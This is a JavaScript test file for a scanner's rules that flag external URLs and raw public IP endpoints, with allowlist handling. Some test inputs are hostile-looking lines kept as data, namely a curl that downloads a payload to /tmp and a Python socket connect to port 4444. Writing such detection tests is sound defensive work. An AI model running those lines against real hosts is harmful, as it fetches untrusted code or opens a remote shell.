// Rule tests for external URLs (allowlist-aware) and raw IP endpoints.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { scanText } from '../../index.js';
import { ruleTester } from '../../rule-tester.js';

ruleTester('network.external-url', {
  valid: [
    { text: 'See https://docs.openclaw.ai/gateway for details.', name: 'built-in safe domain' },
    { text: 'http://localhost:18789/', name: 'localhost' },
    { text: 'http://127.0.0.1:18789/health', name: 'loopback IP' },
    { text: 'https://api.github.com/repos/x/y', name: 'subdomain of a safe domain' },
    { text: 'https://pastebin.com/raw/x', name: 'covered by exfil.paste-service' },
  ],
  invalid: [
    { text: 'See https://status.example-vendor.io/incidents for details.', errors: [{ line: 1, column: 5, host: 'status.example-vendor.io', evidence: 'https://status.example-vendor.io/incidents' }] },
    { text: '[docs](https://evil-github.com/x).', kind: 'markdown', errors: [{ line: 1, column: 8, host: 'evil-github.com', evidence: 'https://evil-github.com/x' }] },
    { text: 'wss://user:pw@Relay.Example-Vendor.io:8443/ws', errors: [{ line: 1, column: 1, host: 'relay.example-vendor.io' }] },
  ],
});

it('network.external-url honours ctx.allowDomains (registrable domain and subdomains)', () => {
  const text = 'fetch("https://api.mycompany.io/x"); fetch("https://mycompany.io.evil.net/")';
  const hosts = scanText(text, { kind: 'code-js', allowDomains: ['mycompany.io'] })
    .filter((m) => m.ruleId === 'network.external-url')
    .map((m) => m.host);
  assert.deepEqual(hosts, ['mycompany.io.evil.net']);
});

ruleTester('domain.raw-ip-endpoint', {
  valid: [
    { text: 'curl http://127.0.0.1:18789/health', kind: 'shell', name: 'loopback' },
    { text: 'curl http://192.168.1.20/', kind: 'shell', name: 'private range' },
    { text: 'curl http://203.0.113.9/', kind: 'shell', name: 'documentation range' },
    { text: 'version 1.2.3.4 released', name: 'version number' },
  ],
  invalid: [
    { text: 'curl http://45.61.138.12:8080/payload -o /tmp/p', kind: 'shell', errors: [{ line: 1, column: 6, host: '45.61.138.12' }] },
    { text: 's.connect(("45.61.138.12", 4444))', kind: 'code-py', errors: [{ line: 1, column: 13, host: '45.61.138.12' }] },
  ],
});
